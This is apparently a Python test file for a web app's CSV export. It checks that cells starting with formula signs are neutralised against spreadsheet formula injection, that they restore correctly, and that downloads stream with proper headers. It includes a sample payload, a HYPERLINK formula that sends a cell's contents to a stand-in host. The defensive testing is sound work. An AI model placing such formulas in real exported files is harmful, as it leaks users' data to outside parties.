"""CSV files: no cell is a formula, however it is divided, and all come back as they were."""

import csv
import io
from collections.abc import Iterator, Sequence

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from common.web.downloads import csv_download, csv_restored, csv_safe
from tests.fuzzing import fuzzing

# What makes a formula, to one spreadsheet or another.
SIGNS = "=+-@＝＋－＠﹢﹣﹦﹫⁺⁻⁼"  # noqa: RUF001
SEPARATORS = ",;\t|"
# What a spreadsheet passes over before it looks at the first sign.
PASSED = " \t\r\n\0\x0b\x1f\x7f\x85\xa0\u200b\u2028\u3000\ufeff\"'`"
FORMULA = '=HYPERLINK("http://x.example/?"&A1)'

cells = st.lists(
    st.sampled_from([*SIGNS, *SEPARATORS, *PASSED, "a", "1", "灯", FORMULA]) | st.text(max_size=3)
).map("".join)


def sent(rows: Sequence[Sequence[object]], *, for_people: bool) -> bytes:
    content = csv_download("x.csv", rows, for_people=for_people).streaming_content
    assert isinstance(content, Iterator)
    return b"".join(content)


def formulas(file: str, separator: str) -> list[str]:
    """The cells that a spreadsheet takes for formulas, which divides lines at `separator`."""
    found = csv.reader(io.StringIO(file, newline=""), delimiter=separator)
    return [
        cell
        for row in found
        for cell in row
        if cell.lstrip(PASSED).startswith(tuple(SIGNS))
        and not cell.lstrip(PASSED.replace("'", "")).startswith("'")
    ]


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "\nx"])
def test_no_cell_is_a_formula_to_a_spreadsheet(cell: str) -> None:
    assert csv_safe(cell) == f"'{cell}"


@pytest.mark.parametrize("sign", SIGNS)
@pytest.mark.parametrize("before", ["", *PASSED, ' "', "\xa0\u3000", '""'])
def test_nor_is_one_whose_sign_stands_behind_what_is_passed_over(sign: str, before: str) -> None:
    assert csv_safe(f"{before}{sign}1").lstrip(PASSED.replace("'", "")).startswith("'")


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        (f"x;{FORMULA}", f"x;'{FORMULA}"),
        (f"x,{FORMULA}", f"x,'{FORMULA}"),
        (f"x\t{FORMULA}", f"x\t'{FORMULA}"),
        ("x|-1", "x|'-1"),
        ('x; "@1', "x;' \"@1"),
        ("x\r\n=1", "x\r\n'=1"),
        ("x;;=1;+2", "x;;'=1;'+2"),
        ("x;\xa0\u200b＝1", "x;'\xa0\u200b＝1"),  # noqa: RUF001
    ],
)
def test_nor_is_what_a_cell_falls_into_where_it_is_divided_otherwise(cell: str, safe: str) -> None:
    assert csv_safe(cell) == safe


@pytest.mark.parametrize(
    "cell", ["", "lamp-0001", "a=b; c=d", "1; 2", "it's", "'quoted'", "a@b, c", "2026-11-30T10:00"]
)
def test_other_cells_stay_as_they_are(cell: str) -> None:
    assert csv_safe(cell) == cell


@fuzzing
@given(st.lists(st.lists(cells, min_size=1, max_size=3), min_size=1, max_size=3))
@example([["x;=HYPERLINK(A1)&B2", "y"]])
@example([["a", 'x;"=1', "b"]])
@example([["a", "x,y;", "=1"]])
@example([["a", 'b"\n=1']])
def test_no_spreadsheet_finds_a_formula_in_a_file(rows: list[list[str]]) -> None:
    file = sent(rows, for_people=False).decode(errors="replace")
    for separator in SEPARATORS:
        assert not formulas(file, separator), separator


@fuzzing
@given(cells)
@example("'=1")
@example("''\t")
@example(";'=")
@example(";\t'=")
def test_a_cell_made_safe_comes_back_as_it_was(cell: str) -> None:
    assert csv_restored(csv_safe(cell)) == cell


@fuzzing
@given(cells)
def test_a_cell_without_a_formula_is_not_changed_by_restoring(cell: str) -> None:
    assert csv_safe(cell) != cell or csv_restored(cell) == cell


@pytest.mark.parametrize("piece", ["\t", ";", " ", "'", ";'", "; ", "\n "])
def test_a_long_cell_takes_no_longer_than_its_length_says(piece: str) -> None:
    cell = piece * (1_000_000 // len(piece))
    assert csv_restored(csv_safe(cell)) == cell


def test_programs_get_every_cell_too() -> None:
    rows = [["-1@x", 'a "b", c'], ["=1+1", "灯"]]
    found = list(csv.reader(io.StringIO(sent(rows, for_people=False).decode())))
    assert found == [["'-1@x", 'a "b", c'], ["'=1+1", "灯"]]
    assert [[csv_restored(cell) for cell in row] for row in found] == rows


def test_a_spreadsheet_is_told_the_encoding() -> None:
    assert sent([["灯"]], for_people=True) == b"\xef\xbb\xbf" + "灯\r\n".encode()


def test_a_long_file_is_sent_in_pieces_and_whole() -> None:
    rows = [[str(number)] for number in range(1001)]
    response = csv_download("x.csv", rows, for_people=False)
    assert response.headers["Content-Disposition"] == 'attachment; filename="x.csv"'
    assert response.headers["Cache-Control"] == "no-store"
    pieces = list(response.streaming_content)  # type: ignore[arg-type]
    assert len(pieces) == 6
    assert b"".join(pieces).split() == [str(number).encode() for number in range(1001)]
